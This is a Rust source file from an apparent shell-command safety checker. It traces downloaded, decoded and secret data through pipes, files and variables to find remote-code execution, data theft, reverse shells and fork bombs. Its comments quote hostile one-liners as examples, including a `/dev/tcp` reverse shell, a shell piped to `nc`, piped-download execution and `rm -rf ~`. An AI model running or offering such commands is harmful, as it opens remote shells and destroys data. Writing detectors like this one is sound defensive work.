//! One analysis of the whole line: what each simple command produces and
//! consumes, in execution order.
//!
//! - *Sources*: network fetchers and clients, decoders, secret reads,
//!   environment dumps, archives of the project or a home directory.
//! - *Carriers*: pipes, files written by redirection or `-o`/`-O`, `tee`,
//!   `dd of=`, file descriptors (`exec 3>`), copies and renames (`cp`, `mv`,
//!   `ln`, `install`, `rsync`), extraction of archives, and variables
//!   (`X=$(curl …)`).
//! - *Sinks*: anything that runs code (a shell or interpreter reading the
//!   carrier, `source`, running the file by path, `xargs sh -c`), and anything
//!   that sends data off the machine.
//!
//! Names are tracked as written (`mv a b; bash b`). A flow that cannot be
//! decided (a computed file name, files extracted from a downloaded archive)
//! is a problem, so the line is ambiguous rather than allowed.

use crate::Text;
use crate::action::{Effect, Problem, SimpleCommand, Stdin};
use crate::shell::Walker;
use crate::shell::bomb;
use crate::shell::flags::Operands;
use crate::shell::generated;
use crate::shell::netshell;
use crate::shell::word::basename;
use files::{key, key_ref};
use fx::Map;
pub(crate) use roles::Roles;

mod carry;
mod files;
mod fx;
mod io;
mod pipe;
mod roles;
mod script;
#[cfg(test)]
mod tests;
mod text;

pub(crate) use text::{ignores_stdin, init_hook};

pub(crate) use script::reads_script_from_stdin;
use script::script_arg;

/// What a stream or a file carries.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Taint {
    network: bool,
    decoded: bool,
    secret: bool,
    project: bool,
}

impl Taint {
    const NETWORK: Taint = Taint {
        network: true,
        decoded: false,
        secret: false,
        project: false,
    };

    fn or(self, o: Taint) -> Taint {
        Taint {
            network: self.network || o.network,
            decoded: self.decoded || o.decoded,
            secret: self.secret || o.secret,
            project: self.project || o.project,
        }
    }

    /// Runs as code, this is downloaded or decoded code.
    fn code(self) -> bool {
        self.network || self.decoded
    }

    fn source(self) -> &'static str {
        if self.network { "download" } else { "decode" }
    }
}

/// A variable assigned on the line.
#[derive(Debug, Clone, Default)]
pub(crate) struct Var {
    /// Its value when static; `None` when only known at run time.
    pub(crate) value: Option<String>,
    /// It holds downloaded or decoded data.
    pub(crate) remote: bool,
    /// It holds secret data, or the project's.
    data: Taint,
}

/// The dataflow state of one line, owned by the [`Walker`] for one parse.
#[derive(Debug, Default)]
pub(crate) struct Flow {
    /// Keyed by compact strings: most names fit inline, and a line that
    /// writes many files allocates no key for them.
    files: Map<Text, Taint>,
    /// A two-word Bloom filter of the keys of `files` ([`seen_bits`]): most
    /// words of a line name no file it wrote, and are turned away unhashed.
    seen: u128,
    /// How many of `files` carry downloaded or decoded data.
    code_files: usize,
    /// Files written into a directory of `PATH`, by name: what any of them
    /// carries (`installed`, without a scan of `files` per command).
    in_path: Map<String, Taint>,
    /// Open descriptors: the file they name (if any) and what they carry.
    fds: Map<u32, (Option<String>, Taint)>,
    /// Carried by files whose names are only known at run time.
    wild: Taint,
    /// Output of the command at each index of `Walker::out` (dense: every
    /// command has an entry once the pass reached it).
    out: Vec<Taint>,
    pub(crate) vars: Map<String, Var>,
    /// Inside a branch, loop or function body: assignments are not static.
    pub(crate) cond: usize,
    /// Static text written to files on the line (`echo 'rm -rf ~' > x.sh`).
    texts: Map<String, String>,
    /// What a `coproc` reads from and whether it is a shell reading code.
    coproc: Taint,
    coproc_shell: bool,
    /// What an output process substitution `>(…)` of the command being read
    /// receives.
    pub(crate) proc_feed: Option<Stdin>,
    /// What the substitutions and variables in the words being read carry;
    /// taken by the command (or assignment) that owns those words.
    pending: Taint,
    /// Functions defined so far: name, the programs they call, and whether
    /// they run them concurrently.
    pub(crate) funcs: Vec<(String, Vec<String>, bool)>,
    /// Directories the line cloned from a remote repository.
    cloned: Vec<String>,
    /// Git remotes the line adds (`git remote add x URL`).
    pub(super) remotes: Vec<String>,
    /// Where a `cd` on the line moved to (relative to where it started).
    cwd: Option<String>,
    /// Scratch for names joined from a directory and a file (`cp a d/`).
    joined: String,
}

const CLONED: &str = "it runs a file from a repository the line cloned from the network";

fn is_dynamic_text(t: &str) -> bool {
    t.bytes().any(|b| b == b'$' || b == b'`')
}

/// What follows the last `sep` in `s`, or all of `s` (`rsplit(sep).next()`
/// without a char searcher).
fn after_last(s: &str, sep: u8) -> &str {
    match s.bytes().rposition(|b| b == sep) {
        Some(i) => s.get(i + 1..).unwrap_or_default(),
        None => s,
    }
}

/// `s` has a `/` (a byte loop: the names are short).
fn has_slash(s: &str) -> bool {
    s.bytes().any(|b| b == b'/')
}

fn is_code_program(p: &str) -> bool {
    Roles::of(p).code()
}

impl Walker {
    /// `curl … | xargs sh -c '{}'`: xargs hands downloaded text to a shell.
    pub(crate) fn xargs_feeds_code(&self, cmd: &SimpleCommand) -> bool {
        cmd.wrappers.iter().any(|w| w == "xargs") && self.input(cmd).code()
    }

    /// The whole-line pass for one normalised command, before it is recorded:
    /// adds flow effects to `cmd` and updates what files and descriptors carry.
    /// `first` is the program word as written (`./p`, not `p`).
    /// Returns the static text of a script file the command runs, to be
    /// parsed as commands in turn.
    pub(crate) fn flow_step(
        &mut self,
        cmd: &mut SimpleCommand,
        r: Roles,
        first: &str,
    ) -> Option<String> {
        if self.quiet(cmd, r, first) {
            // What the full pass does for such a command, without the
            // checks that cannot apply: the words' data is dropped, and
            // only what it prints is noted.
            let idx = self.out.len();
            self.flow.pending = Taint::default();
            let out = self.output(cmd, Taint::default(), r);
            self.flow.set_out(idx, out);
            return None;
        }
        let (fx, script_text) = self.flow_effects(cmd, r, first);
        for e in fx {
            if !cmd.effects.contains(&e) {
                cmd.effects.push(e);
            }
        }
        script_text
    }

    /// No part of the pass but what `cmd` prints applies: its roles run,
    /// send and carry nothing, it reads no input or redirection, and its
    /// program word can name no file or program the line made.
    #[inline]
    fn quiet(&self, cmd: &SimpleCommand, r: Roles, first: &str) -> bool {
        #[cfg(test)]
        if tests::LONG_WAY.get() {
            return false;
        }
        r.flow_quiet()
            && cmd.stdin.is_none()
            && cmd.redirects.is_empty()
            && self.flow.in_path.is_empty()
            && !has_slash(first)
            && !(self.flow.any_code() && is_dynamic_text(first))
    }

    /// [`Walker::flow_step`] but for adding the effects to the command.
    /// `r` are the roles of `cmd.program`.
    fn flow_effects(
        &mut self,
        cmd: &SimpleCommand,
        r: Roles,
        first: &str,
    ) -> (Vec<Effect>, Option<String>) {
        let idx = self.out.len();
        let in_words = std::mem::take(&mut self.flow.pending);
        let p = cmd.program.as_str();
        let mut input = self.input(cmd);
        if matches!(cmd.stdin, Some(Stdin::Here { .. })) {
            // `bash <<< "$(curl …)"`: the here-string carries the download.
            input.network |= in_words.network;
            input.decoded |= in_words.decoded;
        }
        let mut fx = Vec::new();

        // Sinks that run code.
        if r.code() || r.source() {
            self.runs_script(cmd, p, input, &mut fx);
        } else if has_slash(first) && !is_dynamic_text(first) {
            match self.flow.file(first) {
                Some(t) if t.code() => fx.push(Effect::RunsRemoteCode {
                    source: t.source().into(),
                }),
                Some(_) => {}
                None if self.flow.wild.code()
                    && !first.starts_with("/usr/")
                    && !first.starts_with("/bin/") =>
                {
                    self.unknown(cmd, "it runs a file that may come from the download");
                }
                None if self.flow.in_clone(first) => self.unknown(cmd, CLONED),
                None => {}
            }
        } else if let Some(t) = self.flow.installed(p).filter(|t| t.code()) {
            fx.push(Effect::RunsRemoteCode {
                source: t.source().into(),
            });
        } else if self.flow.any_code() && is_dynamic_text(first) {
            self.unknown(cmd, "it runs a program named only at run time");
        }
        // `dpkg -i x.deb`, `java -jar x.jar`, `pip install x.whl` of a download.
        if r.installer()
            && !script::installer_only_inspects(p, &cmd.args)
            && let Some(t) = cmd
                .args
                .iter()
                .filter_map(|a| self.flow.file(&a.text))
                .find(|t| t.code())
        {
            fx.push(Effect::RunsRemoteCode {
                source: t.source().into(),
            });
        }
        if r.inline_code() && netshell::inline_exfiltration(cmd) {
            fx.push(Effect::Egress { secret: true });
        }
        if r.inline_code() && bomb::inline_fork_bomb(cmd) {
            fx.push(Effect::ForkBomb);
        }

        let out = self.output(cmd, input, r);
        // `printf -v VAR …`: only a first `-v` names a variable.
        if p == "printf"
            && cmd.args.first().is_some_and(|a| a.text == "-v")
            && let Some((Some(var), text)) = generated::printf(&cmd.args)
        {
            let stat = self.flow.cond == 0 && !cmd.args.iter().any(|a| a.dynamic);
            let remote = cmd.args.iter().any(|a| a.remote);
            self.flow.vars.insert(
                var,
                Var {
                    value: stat.then_some(text),
                    remote,
                    data: in_words,
                },
            );
        }

        // Network shells.
        if r.net_shell() && netshell::serves_shell(cmd)
            || r.net_client() && self.fed_by_shell(cmd)
            || r.code()
                && self.net_redirect(cmd)
                && (reads_script_from_stdin(cmd) || cmd.args.iter().any(|a| a.text == "-i"))
        {
            fx.push(Effect::NetworkShell);
        }

        // Sinks that send data off the machine.
        let mut sent = self.sent(cmd, input, out, r);
        if r.word_sender() {
            sent = sent.or(in_words);
        }
        if p == "git"
            && !self.flow.remotes.is_empty()
            && carry::pushes_to(&cmd.args, &self.flow.remotes)
        {
            // A new repository's first push looks the same: ask, do not deny.
            self.unknown(
                cmd,
                "it pushes the project to a remote the line itself adds",
            );
        }
        if sent.secret {
            fx.push(Effect::Egress { secret: true });
        } else if sent.project {
            fx.push(Effect::Upload {
                what: "project".into(),
            });
        }

        if p == "coproc" {
            self.coproc(cmd);
        }
        if self.flow.coproc_shell
            && out.code()
            && cmd
                .redirects
                .iter()
                .any(|r| r.op.contains('>') && r.target.contains("COPROC"))
        {
            fx.push(Effect::RunsRemoteCode {
                source: out.source().into(),
            });
        }
        // `read -r x < <(curl …)`: the variable holds what was read.
        if p == "read" {
            // `read x < <(curl …)`: the substitution's data is in the words.
            let input = input.or(in_words);
            for a in cmd.args.iter().filter(|a| !a.text.starts_with('-')) {
                self.flow.vars.insert(
                    a.text.to_string(),
                    Var {
                        value: None,
                        remote: input.code(),
                        data: input,
                    },
                );
            }
        }
        let script_text = self.generated_script(cmd, p, r);
        self.keep_text(cmd, p);

        self.carry(cmd, input, out, r);
        self.flow.set_out(idx, out);
        (fx, script_text)
    }

    /// A shell, interpreter or `source` runs its script: downloaded or
    /// decoded code, a file that may be, or text a filter rewrote.
    fn runs_script(&mut self, cmd: &SimpleCommand, p: &str, input: Taint, fx: &mut Vec<Effect>) {
        match script_arg(p, &cmd.args) {
            Some(script) => {
                let dynamic = script.dynamic || is_dynamic_text(&script.text);
                match self.flow.file(&script.text) {
                    Some(t) if t.code() => fx.push(Effect::RunsRemoteCode {
                        source: t.source().into(),
                    }),
                    _ if dynamic && self.flow.any_code() => {
                        self.unknown(cmd, "it runs a file whose name is only known at run time");
                    }
                    None if self.flow.wild.code() => {
                        self.unknown(cmd, "it runs a file that may come from the download");
                    }
                    None if self.flow.in_clone(&script.text) => {
                        self.unknown(cmd, CLONED);
                    }
                    _ => {}
                }
            }
            None => {
                let xargs = cmd.open_args && cmd.wrappers.iter().any(|w| w == "xargs");
                if input.code() && (reads_script_from_stdin(cmd) || xargs) {
                    fx.push(Effect::RunsRemoteCode {
                        source: input.source().into(),
                    });
                } else if (reads_script_from_stdin(cmd) || xargs)
                    && matches!(
                        cmd.stdin,
                        Some(Stdin::Pipe {
                            transformed: true,
                            ..
                        })
                    )
                {
                    self.unknown(
                        cmd,
                        "it runs text a filter rewrote (`tr`, `sed`, `rev`, …): the code is only known at run time",
                    );
                }
            }
        }
    }

    /// `bash -i >& /dev/tcp/h/1`: a redirection to the network, or to a
    /// descriptor that carries it.
    fn net_redirect(&self, cmd: &SimpleCommand) -> bool {
        cmd.redirects.iter().any(|r| {
            r.target.starts_with("/dev/tcp/")
                || r.target.starts_with("/dev/udp/")
                || r.op.contains('&') && self.flow.fd(&r.target).is_some_and(|t| t.network)
        })
    }

    /// `bash -i 2>&1 | nc h 1`: a network client fed by a shell reading its
    /// script from standard input.
    fn fed_by_shell(&self, cmd: &SimpleCommand) -> bool {
        matches!(&cmd.stdin, Some(Stdin::Pipe { from, .. })
            if is_code_program(from)
                && self.out.iter().rev().find(|c| c.program == from)
                    .is_some_and(reads_script_from_stdin))
    }

    /// `coproc nc h 1`, `coproc bash`: its descriptors carry the network,
    /// or feed a shell.
    fn coproc(&mut self, cmd: &SimpleCommand) {
        if let Some(inner) = cmd
            .args
            .iter()
            .map(|a| basename(&a.text))
            .find(|a| !a.is_empty())
        {
            let r = Roles::of(inner);
            if r.net_client() || r.fetcher() {
                self.flow.coproc = Taint::NETWORK;
            }
            let only = cmd.args.iter().skip(1).all(|a| a.text.starts_with('-'));
            self.flow.coproc_shell |= r.code() && only;
        }
    }

    fn unknown(&mut self, cmd: &SimpleCommand, why: &str) {
        let mut line = cmd.line();
        if line.len() > 60 {
            line = line.chars().take(60).collect::<String>() + "…";
        }
        self.problem(Problem::UnknownFlow(format!("`{line}`: {why}")));
    }
}
